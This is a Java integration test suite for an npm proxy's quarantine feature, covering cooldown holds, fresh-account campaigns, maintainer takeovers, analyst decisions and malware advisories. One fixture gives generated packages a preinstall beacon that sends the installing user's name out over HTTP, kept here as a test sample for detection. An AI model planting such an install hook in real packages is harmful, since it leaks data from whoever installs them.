package dev.lazaret.proxy.it;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.lazaret.policy.AnalystDecision;
import dev.lazaret.proxy.config.QuarantineSettings;
import dev.lazaret.proxy.quarantine.HoldRecord;
import dev.lazaret.proxy.quarantine.HoldState;
import dev.lazaret.proxy.quarantine.QuarantineService;
import dev.lazaret.proxy.testing.FakeUpstream;
import dev.lazaret.proxy.testing.GeneratedPackage;
import dev.lazaret.proxy.testing.PackageGenerator;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.time.ZoneOffset;
import java.time.format.DateTimeFormatter;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The quarantine through a real Lazaret with default policy settings, an injected clock and a
 * fake upstream: campaigns held, established packages delayed by the base cooldown only,
 * takeovers held as risky, holds ending exactly on time, decisions, and restarts.
 */
class QuarantineTest {

  private static final ObjectMapper JSON = new ObjectMapper();
  private static final Instant NOW = Instant.parse("2026-03-10T12:00:00Z");
  private static final Duration YEAR = Duration.ofDays(365);
  /** UTC to the second, as 403 texts show instants after their relative part. */
  private static final DateTimeFormatter UTC_SECONDS =
      DateTimeFormatter.ofPattern("uuuu-MM-dd HH:mm:ss").withZone(ZoneOffset.UTC);

  private final PackageGenerator gen = PackageGenerator.seeded(42).at(NOW);
  private final MutableClock clock = new MutableClock(NOW);
  @TempDir Path data;
  private FakeUpstream upstream;
  private RunningProxy proxy;

  @AfterEach
  void stop() {
    if (proxy != null) {
      proxy.close();
    }
    if (upstream != null) {
      upstream.close();
    }
  }

  private void start(GeneratedPackage... packages) {
    upstream = FakeUpstream.start(clock).publish(packages);
    proxy = RunningProxy.start(upstream, data, clock,
        s -> s.withQuarantine(QuarantineSettings.defaults()));
  }

  /** An established package: one maintainer for years, releases every few months. */
  private GeneratedPackage established(String name, String maintainer) {
    return gen.pkg(name).maintainer(maintainer)
        .version("1.0.0", v -> v.publishedAgo(YEAR.multipliedBy(4)))
        .version("1.1.0", v -> v.publishedAgo(YEAR.multipliedBy(3)))
        .version("1.2.0", v -> v.publishedAgo(YEAR.multipliedBy(2)))
        .version("1.3.0", v -> v.publishedAgo(YEAR))
        .version("1.4.0", v -> v.publishedAgo(Duration.ofDays(3)))
        .version("1.5.0", v -> v.publishedAgo(Duration.ofHours(1)))
        .done();
  }

  @Test
  void quarantineStatusTellsDevelopersWhatIsHeldAndUntilWhenButNotWhy() throws Exception {
    GeneratedPackage pkg = established("status-demo", "carol");
    start(pkg);

    HttpResponse<byte[]> status = proxy.get("/-/quarantine/status-demo");

    assertThat(status.statusCode()).isEqualTo(200);
    JsonNode body = JSON.readTree(status.body());
    assertThat(body.get("name").asText()).isEqualTo("status-demo");
    assertThat(body.get("held")).hasSize(1);
    JsonNode held = body.get("held").get(0);
    assertThat(held.get("version").asText()).isEqualTo("1.5.0");
    // The base cooldown, counted from the publish an hour ago, to the second.
    assertThat(held.get("until").asText()).isEqualTo(
        pkg.version("1.5.0").publishedAt().plus(Duration.ofHours(24)).toString());
    // For people: relative to the proxy's clock, then UTC to the second.
    assertThat(held.get("releasedIn").asText()).isEqualTo("in 23 h (2026-03-11 11:00:00 UTC)");
    assertThat(body.get("blocked")).isEmpty();
    assertThat(body.get("dist-tags").get("latest").asText()).isEqualTo("1.4.0");
    // Nothing an attacker could tune a release against: no signals, no publisher evidence.
    String text = new String(status.body(), StandardCharsets.UTF_8);
    assertThat(text).doesNotContain("carol").doesNotContain("signal").doesNotContain("risky");

    assertThat(proxy.get("/-/quarantine/no-such-package").statusCode()).isEqualTo(404);
    assertThat(proxy.get("/-/quarantine/@scope%2fno-such").statusCode()).isEqualTo(404);
    assertThat(proxy.get("/-/quarantine/Bad%00Name").statusCode()).isEqualTo(400);
  }

  @Test
  void campaignOfFreshRandomAccountsIsHeldEntirely() {
    Random random = new Random(7);
    List<GeneratedPackage> campaign = new ArrayList<>();
    for (int i = 0; i < 20; i++) {
      String account = randomAccount(random);
      long minutesAgo = 5 + (long) i * (2 * 24 * 60 - 5) / 19; // minutes to 2 days
      boolean beacon = i % 3 == 0;
      campaign.add(gen.pkg("corp-internal-svc-" + i).maintainer(account)
          .version(i % 4 == 0 ? "99.0.0" : "1.0.0", v -> {
            v.publishedAgo(Duration.ofMinutes(minutesAgo)).publishedBy(account);
            if (beacon) {
              v.preinstall("node -e \"require('http').get('http://127.0.0.1:9/'+process.env.USER)\"");
            }
          }).done());
    }
    start(campaign.toArray(GeneratedPackage[]::new));

    for (GeneratedPackage pkg : campaign) {
      HttpResponse<byte[]> packument = proxy.get("/" + pkg.name());
      String error = error(packument);
      assertThat(packument.statusCode()).as(pkg.name()).isEqualTo(403);
      String account = pkg.maintainers().get(0).name();
      assertThat(error).as(pkg.name())
          .startsWith(pkg.name() + " has no version you may install yet")
          .contains("'" + account + "'")
          .contains("an account first seen")
          .endsWith("ask your security team to review it");

      String version = pkg.latest().version();
      HttpResponse<byte[]> manifest = proxy.get("/" + pkg.name() + "/" + version);
      assertThat(manifest.statusCode()).isEqualTo(403);
      // Held for 7 days from a publish 5 min to 2 days ago: released in 5 or 6 days.
      long days = Duration.between(NOW, pkg.latest().publishedAt().plus(Duration.ofDays(7)))
          .toDays();
      assertThat(error(manifest)).startsWith(pkg.name() + "@" + version + " is held, released in "
          + days + " days (" + UTC_SECONDS.format(pkg.latest().publishedAt().plus(
              Duration.ofDays(7))) + " UTC): ");
      HttpResponse<byte[]> tarball = proxy.get(pkg.latest().tarballPath());
      assertThat(tarball.statusCode()).isEqualTo(403);

      HoldRecord hold = quarantine().holds().find(pkg.name(), version).orElseThrow();
      assertThat(hold.state()).isEqualTo(HoldState.HELD);
      assertThat(hold.risky()).as("flagged for analysts: " + hold.reasons()).isTrue();
      assertThat(hold.until()).isEqualTo(pkg.latest().publishedAt().plus(Duration.ofDays(7)));
      assertThat(hold.signals()).anySatisfy(s -> {
        assertThat(s.id()).isEqualTo("FRESH_PUBLISHER");
        assertThat(s.fired()).isTrue();
      });
    }
    // Clients got none of it (every tarball request above was a 403). Lazaret itself may fetch
    // a held version's tarball once, in the background, to inspect it (issue 13): never more.
    assertThat(upstream.requestCount(r -> r.path().endsWith(".tgz")))
        .isLessThanOrEqualTo(campaign.size());
  }

  @Test
  void establishedPackageGetsPreviousVersionUntilTheBaseCooldownEnds() throws IOException {
    GeneratedPackage lib = established("steady-lib", "alice");
    start(lib);

    JsonNode doc = JSON.readTree(ok(proxy.get("/steady-lib")));
    assertThat(doc.path("versions").has("1.5.0")).isFalse();
    assertThat(doc.path("time").has("1.5.0")).isFalse();
    assertThat(doc.path("versions").has("1.4.0")).as("3 days old, usual maintainer").isTrue();
    assertThat(doc.path("dist-tags").path("latest").asText()).isEqualTo("1.4.0");

    JsonNode abbreviated = JSON.readTree(ok(proxy.send(proxy.request("/steady-lib")
        .header("Accept", "application/vnd.npm.install-v1+json").GET().build())));
    assertThat(abbreviated.path("versions").has("1.5.0")).isFalse();
    assertThat(abbreviated.path("dist-tags").path("latest").asText()).isEqualTo("1.4.0");

    assertThat(proxy.get("/steady-lib/latest").statusCode()).isEqualTo(200);
    assertThat(JSON.readTree(proxy.get("/steady-lib/latest").body()).path("version").asText())
        .isEqualTo("1.4.0");
    HttpResponse<byte[]> held = proxy.get("/steady-lib/1.5.0");
    assertThat(held.statusCode()).isEqualTo(403);
    // The 403 shows the end relative to the proxy's clock, then in UTC to the second.
    assertThat(error(held)).startsWith("steady-lib@1.5.0 is held, released in 23 h (2026-03-11"
        + " 11:00:00 UTC): published 1 h ago")
        .contains("ask your security team to approve it if you need it sooner");
    assertThat(proxy.get(lib.version("1.4.0").tarballPath()).statusCode()).isEqualTo(200);

    HoldRecord hold = quarantine().holds().find("steady-lib", "1.5.0").orElseThrow();
    assertThat(hold.risky()).isFalse();
    assertThat(hold.publisher()).isEqualTo("alice");
  }

  @Test
  void newAccountAddingPostinstallToEstablishedPackageIsHeldAsRisky() throws IOException {
    GeneratedPackage lib = gen.pkg("steady-lib").maintainer("alice")
        .version("1.0.0", v -> v.publishedAgo(YEAR.multipliedBy(3)))
        .version("1.1.0", v -> v.publishedAgo(YEAR))
        .version("1.2.0", v -> v.publishedAgo(Duration.ofDays(3)).publishedBy("qz7x0vk3")
            .script("postinstall", "node collect.js"))
        .done();
    start(lib);

    JsonNode doc = JSON.readTree(ok(proxy.get("/steady-lib")));
    assertThat(doc.path("versions").has("1.2.0")).as("past the base cooldown, but risky")
        .isFalse();
    assertThat(doc.path("dist-tags").path("latest").asText()).isEqualTo("1.1.0");
    assertThat(proxy.get(lib.version("1.1.0").tarballPath()).statusCode()).isEqualTo(200);
    assertThat(proxy.get(lib.version("1.0.0").tarballPath()).statusCode()).isEqualTo(200);

    HttpResponse<byte[]> held = proxy.get("/steady-lib/1.2.0");
    assertThat(held.statusCode()).isEqualTo(403);
    assertThat(error(held))
        .startsWith("steady-lib@1.2.0 is held, released in 4 days (2026-03-14 12:00:00 UTC): ")
        .contains("'qz7x0vk3'")
        .contains("postinstall")
        .endsWith("ask your security team to review it");
    HoldRecord hold = quarantine().holds().find("steady-lib", "1.2.0").orElseThrow();
    assertThat(hold.risky()).isTrue();
    assertThat(hold.signals()).filteredOn(HoldRecord.Signal::fired)
        .extracting(HoldRecord.Signal::id)
        .contains("MAINTAINER_TAKEOVER", "INSTALL_SCRIPTS");
  }

  @Test
  void holdEndsExactlyAtItsTimeAndTheEtagChanges() throws IOException {
    GeneratedPackage lib = established("steady-lib", "alice");
    start(lib);
    Instant until = lib.version("1.5.0").publishedAt().plus(Duration.ofHours(24));

    HttpResponse<byte[]> before = proxy.get("/steady-lib");
    assertThat(JSON.readTree(ok(before)).path("versions").has("1.5.0")).isFalse();
    // A version seen as new is served after its cooldown only once its tarball is inspected.
    inspected();

    clock.set(until.minusMillis(1));
    assertThat(proxy.get("/steady-lib/1.5.0").statusCode()).isEqualTo(403);
    HttpResponse<byte[]> justBefore = proxy.get("/steady-lib");
    assertThat(JSON.readTree(ok(justBefore)).path("versions").has("1.5.0")).isFalse();

    clock.set(until);
    HttpResponse<byte[]> after = proxy.get("/steady-lib");
    JsonNode doc = JSON.readTree(ok(after));
    assertThat(doc.path("versions").has("1.5.0")).isTrue();
    assertThat(doc.path("dist-tags").path("latest").asText()).isEqualTo("1.5.0");
    assertThat(after.headers().firstValue("ETag")).isNotEqualTo(
        justBefore.headers().firstValue("ETag"));
    assertThat(proxy.get("/steady-lib/1.5.0").statusCode()).isEqualTo(200);
    assertThat(proxy.get(lib.version("1.5.0").tarballPath()).statusCode()).isEqualTo(200);
    assertThat(quarantine().holds().find("steady-lib", "1.5.0").orElseThrow().state())
        .isEqualTo(HoldState.RELEASED);
  }

  @Test
  void analystApprovalAndRejectionTakeEffectOnTheNextRequest() throws IOException {
    GeneratedPackage lib = established("steady-lib", "alice");
    GeneratedPackage other = gen.pkg("shady-thing").maintainer("k8v2x9qz")
        .version("1.0.0", v -> v.publishedAgo(Duration.ofHours(2)).preinstall("node x.js"))
        .done();
    start(lib, other);
    assertThat(proxy.get("/steady-lib/1.5.0").statusCode()).isEqualTo(403);
    assertThat(proxy.get("/shady-thing").statusCode()).isEqualTo(403);

    quarantine().decisions().decide(AnalystDecision.approve("steady-lib", "1.5.0", "carol",
        clock.instant(), "reviewed the diff"));
    assertThat(proxy.get("/steady-lib/1.5.0").statusCode()).isEqualTo(200);
    assertThat(JSON.readTree(ok(proxy.get("/steady-lib"))).path("dist-tags").path("latest")
        .asText()).isEqualTo("1.5.0");

    quarantine().decisions().decide(AnalystDecision.reject("shady-thing", "1.0.0", "carol",
        clock.instant(), "beacons to a remote host"));
    HttpResponse<byte[]> rejected = proxy.get("/shady-thing/1.0.0");
    assertThat(rejected.statusCode()).isEqualTo(403);
    assertThat(error(rejected)).contains("is blocked").contains("Rejected by analyst carol")
        .contains("beacons to a remote host");
    assertThat(quarantine().holds().find("shady-thing", "1.0.0").orElseThrow().state())
        .isEqualTo(HoldState.REJECTED);
  }

  @Test
  void holdsAndDecisionsSurviveARestart() throws IOException {
    GeneratedPackage lib = established("steady-lib", "alice");
    GeneratedPackage other = gen.pkg("shady-thing").maintainer("k8v2x9qz")
        .version("1.0.0", v -> v.publishedAgo(Duration.ofHours(2)).preinstall("node x.js"))
        .done();
    start(lib, other);
    assertThat(proxy.get("/shady-thing").statusCode()).isEqualTo(403);
    assertThat(proxy.get("/steady-lib/1.5.0").statusCode()).isEqualTo(403);
    HoldRecord before = quarantine().holds().find("shady-thing", "1.0.0").orElseThrow();
    quarantine().decisions().decide(AnalystDecision.approve("steady-lib", "1.5.0", "carol",
        clock.instant(), "needed for the release"));

    clock.advance(Duration.ofMinutes(10));
    proxy.restart();
    HoldRecord after = quarantine().holds().find("shady-thing", "1.0.0").orElseThrow();
    assertThat(after.state()).isEqualTo(HoldState.HELD);
    assertThat(after.firstHeldAt()).isEqualTo(before.firstHeldAt());
    assertThat(after.until()).isEqualTo(before.until());
    assertThat(after.signals()).isEqualTo(before.signals());

    assertThat(proxy.get("/shady-thing").statusCode()).isEqualTo(403);
    assertThat(proxy.get("/steady-lib/1.5.0").statusCode()).isEqualTo(200);
    assertThat(quarantine().holds().find("steady-lib", "1.5.0").orElseThrow().state())
        .isEqualTo(HoldState.APPROVED);

    // With the upstream gone too, the stored copies are judged the same way.
    upstream.stop();
    proxy.restart();
    assertThat(proxy.get("/shady-thing").statusCode()).isEqualTo(403);
    assertThat(proxy.get("/steady-lib/1.5.0").statusCode()).isEqualTo(200);
  }

  @Test
  void evidenceIsGatheredOnceNotPerRequest() {
    GeneratedPackage lib = established("steady-lib", "alice");
    start(lib);
    for (int i = 0; i < 5; i++) {
      proxy.get("/steady-lib");
      proxy.get("/steady-lib/1.4.0");
    }
    assertThat(upstream.requestCount(r -> r.path().equals("/-/v1/search"))).isEqualTo(1);
  }

  @Test
  void aVersionListedUnderAMalwareAdvisoryIsBlocked() throws IOException {
    GeneratedPackage lib = established("steady-lib", "alice");
    upstream = FakeUpstream.start(clock).publish(lib);
    int id = upstream.advisory("steady-lib", "1.4.0", "critical", "Malware in steady-lib");
    proxy = RunningProxy.start(upstream, data, clock,
        s -> s.withQuarantine(QuarantineSettings.defaults()));

    JsonNode doc = JSON.readTree(ok(proxy.get("/steady-lib")));
    assertThat(doc.path("versions").has("1.4.0")).isFalse();
    assertThat(doc.path("dist-tags").path("latest").asText()).isEqualTo("1.3.0");
    HttpResponse<byte[]> blocked = proxy.get("/steady-lib/1.4.0");
    assertThat(blocked.statusCode()).isEqualTo(403);
    assertThat(error(blocked)).startsWith("steady-lib@1.4.0 is blocked and will not be served")
        .contains(String.valueOf(id));
    assertThat(proxy.get(lib.version("1.4.0").tarballPath()).statusCode()).isEqualTo(403);
    assertThat(quarantine().holds().find("steady-lib", "1.4.0").orElseThrow().state())
        .isEqualTo(HoldState.BLOCKED);
  }

  @Test
  void anUnreachableAdvisoryServiceDoesNotStopServingAndIsNamedInTheVerdict() {
    GeneratedPackage lib = established("steady-lib", "alice");
    upstream = FakeUpstream.start(clock).publish(lib);
    upstream.fail(path -> path.contains("/security/advisories/"), 503);
    proxy = RunningProxy.start(upstream, data, clock,
        s -> s.withQuarantine(QuarantineSettings.defaults()));

    assertThat(proxy.get("/steady-lib").statusCode()).isEqualTo(200);
    assertThat(proxy.get("/steady-lib/1.4.0").statusCode()).isEqualTo(200);
    HoldRecord hold = quarantine().holds().find("steady-lib", "1.5.0").orElseThrow();
    assertThat(String.join(" ", hold.reasons())).contains("advisory service unreachable");

    // Once it answers again, the package is judged again within about a minute: the retry
    // runs when the verdict is next needed, and its answer re-judges the package.
    upstream.heal();
    clock.advance(Duration.ofSeconds(61));
    String reasons = "";
    for (int i = 0; i < 100; i++) {
      assertThat(proxy.get("/steady-lib").statusCode()).isEqualTo(200);
      reasons = String.join(" ",
          quarantine().holds().find("steady-lib", "1.5.0").orElseThrow().reasons());
      if (!reasons.contains("unreachable")) {
        break;
      }
      sleep(50);
    }
    assertThat(reasons).doesNotContain("unreachable");
  }

  private static void sleep(long millis) {
    try {
      Thread.sleep(millis);
    } catch (InterruptedException e) {
      Thread.currentThread().interrupt();
    }
  }

  /** The quarantine, once every judgement so far has its holds recorded (in the background). */
  private QuarantineService quarantine() {
    QuarantineService q = proxy.lazaret().quarantine().orElseThrow();
    assertThat(q.awaitRecorded(Duration.ofSeconds(30))).as("holds recorded").isTrue();
    return q;
  }

  /** Waits until the holds so far are recorded and the inspections they queued are done. */
  private void inspected() {
    quarantine();
    proxy.lazaret().inspections().idle().orTimeout(30, TimeUnit.SECONDS).join();
  }

  /** An account name like the ones automated campaigns register: 8 random [a-z0-9]. */
  private static String randomAccount(Random random) {
    String alphabet = "abcdefghijklmnopqrstuvwxyz0123456789";
    StringBuilder b = new StringBuilder();
    while (b.length() < 8) {
      b.append(alphabet.charAt(random.nextInt(alphabet.length())));
    }
    return b.toString();
  }

  private static byte[] ok(HttpResponse<byte[]> response) {
    assertThat(response.statusCode())
        .as(new String(response.body(), StandardCharsets.UTF_8)).isEqualTo(200);
    return response.body();
  }

  private static String error(HttpResponse<byte[]> response) {
    try {
      return JSON.readTree(response.body()).path("error").asText();
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }
}
